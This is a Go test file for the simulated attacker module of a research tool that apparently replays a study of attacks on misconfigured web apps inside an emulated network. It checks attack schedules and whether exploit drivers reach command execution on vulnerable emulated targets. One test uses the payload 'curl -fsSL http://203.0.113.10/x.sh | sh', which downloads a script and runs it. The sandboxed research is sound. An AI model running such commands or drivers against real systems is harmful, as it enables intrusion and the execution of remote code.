@@ -1,0 +1,257 @@
+package attacker
+
+import (
+	"context"
+	"net/netip"
+	"strings"
+	"testing"
+	"time"
+
+	"mavscan/internal/apps"
+	"mavscan/internal/geo"
+	"mavscan/internal/httpsim"
+	"mavscan/internal/mav"
+	"mavscan/internal/simnet"
+)
+
+var planStart = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
+
+func TestRosterTotalsMatchTable5(t *testing.T) {
+	perApp := map[mav.App]int{}
+	for _, spec := range roster() {
+		for _, job := range spec.jobs {
+			perApp[job.app] += job.attacks
+		}
+	}
+	for app, want := range PaperAttackTotals {
+		if perApp[app] != want {
+			t.Errorf("%s roster total %d, want %d", app, perApp[app], want)
+		}
+	}
+	total := 0
+	for _, n := range perApp {
+		total += n
+	}
+	if total != 2195 {
+		t.Fatalf("roster grand total %d, want 2195", total)
+	}
+	// No roster entry may target an application outside Table 5.
+	for app := range perApp {
+		if _, ok := PaperAttackTotals[app]; !ok {
+			t.Errorf("roster attacks out-of-table app %s", app)
+		}
+	}
+}
+
+func TestBuildPlanDeterministicAndComplete(t *testing.T) {
+	db := geo.Default()
+	p1 := BuildPlan(db, planStart, 7)
+	p2 := BuildPlan(db, planStart, 7)
+	if len(p1.Attacks) != len(p2.Attacks) {
+		t.Fatalf("same seed, different plan sizes: %d vs %d", len(p1.Attacks), len(p2.Attacks))
+	}
+	for i := range p1.Attacks {
+		if p1.Attacks[i] != p2.Attacks[i] {
+			t.Fatalf("same seed, different attack %d", i)
+		}
+	}
+	if len(p1.Attacks) != 2195 {
+		t.Fatalf("plan has %d attacks, want 2195", len(p1.Attacks))
+	}
+	// Sorted by time, all within the study window.
+	end := planStart.Add(StudyDuration)
+	for i, a := range p1.Attacks {
+		if i > 0 && a.Time.Before(p1.Attacks[i-1].Time) {
+			t.Fatal("plan not time-sorted")
+		}
+		if a.Time.Before(planStart) || a.Time.After(end) {
+			t.Fatalf("attack %d outside window: %v", i, a.Time)
+		}
+	}
+}
+
+func TestPlanFirstAttackTimes(t *testing.T) {
+	plan := BuildPlan(geo.Default(), planStart, 3)
+	firsts := map[mav.App]time.Time{}
+	for _, a := range plan.Attacks {
+		if _, seen := firsts[a.App]; !seen {
+			firsts[a.App] = a.Time
+		}
+	}
+	for app, wantHours := range FirstAttackHours {
+		got := firsts[app].Sub(planStart).Hours()
+		if got < wantHours-0.01 || got > wantHours+0.01 {
+			t.Errorf("%s first attack at %.2fh, want %.1fh", app, got, wantHours)
+		}
+	}
+}
+
+func TestPlanSourceGeography(t *testing.T) {
+	db := geo.Default()
+	plan := BuildPlan(db, planStart, 11)
+	countries := map[string]int{}
+	for _, a := range plan.Attacks {
+		countries[db.Lookup(a.SrcIP).Country]++
+	}
+	// Shape checks from Table 7: Netherlands and Brazil are heavy,
+	// nothing is unattributed.
+	if countries["Unknown"] != 0 {
+		t.Fatalf("%d attacks from unallocated space", countries["Unknown"])
+	}
+	if countries["Netherlands"] < 300 {
+		t.Errorf("Netherlands %d attacks, want >300 (paper 496)", countries["Netherlands"])
+	}
+	if countries["Brazil"] < 250 {
+		t.Errorf("Brazil %d attacks, want >250 (paper 398)", countries["Brazil"])
+	}
+}
+
+func TestPayloadVariantsAreDistinct(t *testing.T) {
+	p1 := Payload{Family: FamilyMiner, Variant: 1}
+	p2 := Payload{Family: FamilyMiner, Variant: 2}
+	if p1.Command() == p2.Command() {
+		t.Fatal("different variants must render different commands")
+	}
+	if p1.Key() == p2.Key() {
+		t.Fatal("different variants must have different keys")
+	}
+	if p1.Command() != p1.Command() {
+		t.Fatal("payload rendering must be deterministic")
+	}
+}
+
+func TestEveryInScopeAppHasDriver(t *testing.T) {
+	for _, info := range mav.InScopeApps() {
+		if _, ok := drivers[info.App]; !ok {
+			t.Errorf("no exploit driver for %s", info.App)
+		}
+	}
+	if err := Exploit(context.Background(), nil, mav.Ghost, "http://x", "id"); err == nil {
+		t.Error("out-of-scope app must have no driver")
+	}
+}
+
+// deployVulnerable builds one vulnerable emulated instance reachable over
+// a fresh simnet, recording executions.
+func deployVulnerable(t *testing.T, app mav.App) (*simnet.Network, netip.Addr, int, *[]string) {
+	t.Helper()
+	var cmds []string
+	sink := apps.ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, cmd string) {
+		cmds = append(cmds, cmd)
+	})
+	cfg := apps.Config{App: app, Exec: sink, Options: map[string]bool{}}
+	switch app {
+	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
+		cfg.Installed = false
+		if app == mav.Joomla {
+			cfg.Version = "3.6.0"
+		}
+	case mav.Consul:
+		cfg.Options["enableScriptChecks"] = true
+	case mav.Ajenti:
+		cfg.Options["autologin"] = true
+	case mav.PhpMyAdmin:
+		cfg.Options["allowNoPassword"] = true
+	case mav.Adminer:
+		cfg.Options["emptyDBPassword"] = true
+		cfg.Version = "4.2.5"
+	default:
+		cfg.AuthRequired = false
+	}
+	inst, err := apps.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := simnet.New()
+	ip := netip.MustParseAddr("10.30.0.99")
+	h := simnet.NewHost(ip)
+	port := mav.MustLookup(app).Ports[0]
+	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
+	if err := n.AddHost(h); err != nil {
+		t.Fatal(err)
+	}
+	return n, ip, port, &cmds
+}
+
+// TestDriversExecuteAgainstVulnerableTargets proves each exploit driver
+// really drives its application to command execution. Drupal's driver only
+// hijacks the installation (no exec surface is modeled), so it is checked
+// for success without an exec event.
+func TestDriversExecuteAgainstVulnerableTargets(t *testing.T) {
+	for _, info := range mav.InScopeApps() {
+		info := info
+		t.Run(string(info.App), func(t *testing.T) {
+			n, ip, port, cmds := deployVulnerable(t, info.App)
+			client := httpsim.NewClient(n, httpsim.ClientOptions{
+				SourceIP:          netip.MustParseAddr("203.0.113.50"),
+				DisableKeepAlives: true,
+			})
+			base := "http://" + ip.String() + ":" + itoa(port)
+			command := "curl -fsSL http://203.0.113.10/x.sh | sh"
+			if err := Exploit(context.Background(), client, info.App, base, command); err != nil {
+				t.Fatalf("exploit failed: %v", err)
+			}
+			if info.App == mav.Drupal {
+				return
+			}
+			if len(*cmds) == 0 {
+				t.Fatal("no command executed")
+			}
+			if !strings.Contains((*cmds)[0], "203.0.113.10") {
+				t.Fatalf("executed %q, payload lost", (*cmds)[0])
+			}
+		})
+	}
+}
+
+// TestDriversFailAgainstSecureTargets: the same drivers against secured
+// deployments must fail and execute nothing.
+func TestDriversFailAgainstSecureTargets(t *testing.T) {
+	for _, info := range mav.InScopeApps() {
+		if info.App == mav.Polynote {
+			continue // cannot be secured
+		}
+		info := info
+		t.Run(string(info.App), func(t *testing.T) {
+			var cmds []string
+			sink := apps.ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, cmd string) {
+				cmds = append(cmds, cmd)
+			})
+			cfg := apps.Config{App: info.App, Exec: sink, Installed: true, AuthRequired: true, Options: map[string]bool{}}
+			inst, err := apps.New(cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+			n := simnet.New()
+			ip := netip.MustParseAddr("10.30.0.98")
+			h := simnet.NewHost(ip)
+			port := info.Ports[0]
+			h.Bind(port, httpsim.ConnHandler(inst.Handler()))
+			if err := n.AddHost(h); err != nil {
+				t.Fatal(err)
+			}
+			client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
+			base := "http://" + ip.String() + ":" + itoa(port)
+			err = Exploit(context.Background(), client, info.App, base, "id")
+			if err == nil && len(cmds) > 0 {
+				t.Fatalf("exploit succeeded against secure %s: %v", info.App, cmds)
+			}
+			if len(cmds) != 0 {
+				t.Fatalf("secure %s executed %v", info.App, cmds)
+			}
+		})
+	}
+}
+
+func TestScheduleTimesRampLate(t *testing.T) {
+	plan := BuildPlan(geo.Default(), planStart, 5)
+	// The vigilante ramps late: all its attacks are in the second half.
+	for _, a := range plan.Attacks {
+		if a.Actor != "vigilante" {
+			continue
+		}
+		if a.Time.Sub(planStart).Hours() < 300 {
+			t.Fatalf("vigilante attack at %.0fh, want >=300h", a.Time.Sub(planStart).Hours())
+		}
+	}
+}
